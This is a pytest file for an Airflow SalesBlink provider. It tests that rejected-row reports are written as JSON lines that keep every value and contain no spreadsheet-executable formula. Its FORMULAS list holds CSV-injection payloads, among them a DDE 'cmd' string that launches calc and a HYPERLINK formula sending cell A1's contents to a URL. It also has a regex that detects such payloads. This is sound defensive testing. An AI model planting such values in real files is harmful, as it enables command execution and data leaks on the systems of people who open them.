"""A file of rejected rows keeps every value, and contains nothing that a spreadsheet runs as a formula."""

from __future__ import annotations

import csv
import json
import re
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from airflow_provider_salesblink.client.cell_values import trimmed
from airflow_provider_salesblink.loading.report import as_json_lines
from airflow_provider_salesblink.loading.rows import ColumnNames, Reject, from_csv
from airflow_provider_salesblink.operators.loads import AddProspectsOperator

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from airflow_provider_salesblink.sandbox import Sandbox

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.com/?"&A1)', "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", '"=1+1', "'=1+1", "a,=1+1", "a;=1+1", "a\t=1+1", "a|=1+1", 'a","=1+1', "a\n=1+1",
    "x:=1",
    "(=1)", "\uff1d1+1", "a,\uff0b1", "a,\uff0d1", "a,\uff20SUM(A1)", "%0A=1+1", "\ufeff=1+1", "\u200b=1+1",
    "\u2028=1+1", "a\x85=1", "==1", "=-1",
]  # fmt: skip
STARTS = re.compile(r"[\s\"'\ufeff\u200b({\[]*[=+\-@\uff1d\uff0b\uff0d\uff20]")


def cells(text: str) -> list[str]:
    """Return every cell that a spreadsheet may find in a file, with any of the usual delimiters."""
    found = [
        each for delimiter in ",;\t|: " for row in csv.reader(text.splitlines(), delimiter=delimiter) for each in row
    ]
    return [*found, *re.split(r"[,;\t|: \n\"']", text)]


@pytest.mark.parametrize("value", FORMULAS, ids=ascii)
@pytest.mark.parametrize("where", ["value", "name", "line", "in a list"])
def test_no_cell_is_a_formula_and_every_value_is_read_as_it_was(value: str, where: str) -> None:
    columns: dict[str, Any] = {
        "value": {"Email": value, "Plan": value + value},
        "name": {value: "x"},
        "line": {"line": value},
        "in a list": {"beyond the header": ["x", value], "row": {"deep": [value]}},
    }[where]

    (line,) = as_json_lines([Reject(17, "It is not JSON: correct the line.", columns)])

    assert json.loads(line)["columns"] == columns
    assert len(line.splitlines()) == 1
    assert [cell for cell in cells(line) if STARTS.match(cell)] == []


def test_a_row_without_formulas_stays_readable() -> None:
    columns = {"Email": "o'brien-ana+x@example.com", "Name": "Zoë", "Tel": 5, "Below": -5}

    (line,) = as_json_lines([Reject(17, "It has no 'Email'.", columns)])

    assert line == (
        '{"row": 17, "reason": "It has no \'Email\'.", "columns": '
        '{"Email": "o\'brien-ana+x@example.com", "Name": "Zoë", "Tel": 5, "Below": -5}}\n'
    )


def test_a_load_leaves_a_file_without_formulas(
    sandbox: Sandbox, connection: Callable[..., None], tmp_path: Path
) -> None:
    connection()
    campaign = sandbox.add_campaign("Spring")
    source, rejected = tmp_path / "people.csv", tmp_path / "rejected.csv"
    with source.open("w", newline="", encoding="utf-8") as file:
        rows = [
            ["Email", "Name"],
            ["ana@example.com", "=1+1"],
            *([f"nobody {n}", each] for n, each in enumerate(FORMULAS)),
        ]
        csv.writer(file).writerows(rows)
    load = AddProspectsOperator(
        task_id="t", campaign_id=campaign, rows_path=str(source), rejected_path=str(rejected), max_rejected=100
    )

    assert load.execute({})["rejected"] == len(FORMULAS)

    text = rejected.read_text(encoding="utf-8")
    kept = [json.loads(line) for line in text.splitlines()]
    assert [each["columns"]["Name"] for each in kept] == [trimmed(each) for each in FORMULAS]
    assert [cell for cell in cells(text) if STARTS.match(cell)] == []
    assert not any(value in each["reason"] for each in kept for value in FORMULAS)
    # People are added with the values of the source: SalesBlink mails them as text.
    assert [person.fields["Name"] for person in sandbox.people()] == ["=1+1"]


ANYTHING = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters(exclude_categories=()))
    | st.binary() | st.builds(object) | st.builds(lambda: 10**5000) | st.builds(lambda: {("a",): 1}),
    lambda inner: st.lists(inner) | st.dictionaries(st.text() | st.integers() | st.binary(), inner),
    max_leaves=10,
)  # fmt: skip


# The first run on a machine makes hypothesis' table of all characters, which takes seconds.
@settings(suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.dictionaries(st.text(st.characters(exclude_categories=())) | st.tuples(st.integers()), ANYTHING))
def test_any_row_can_be_kept(columns: Any) -> None:
    (line,) = as_json_lines([Reject(1, "x", columns)])

    kept = json.loads(line.encode())["columns"]
    assert len(line.splitlines()) == 1
    for name, value in columns.items():
        if isinstance(name, str) and isinstance(value, str):
            assert kept[name] == value


@given(st.binary(max_size=300))
def test_what_a_source_makes_of_any_bytes_can_be_kept(content: bytes) -> None:
    import io

    try:
        found = list(from_csv(io.BytesIO(b"Email,Name\n" + content), ColumnNames()))
    except ValueError:
        return
    for line in as_json_lines(each for each in found if isinstance(each, Reject)):
        json.loads(line.encode())
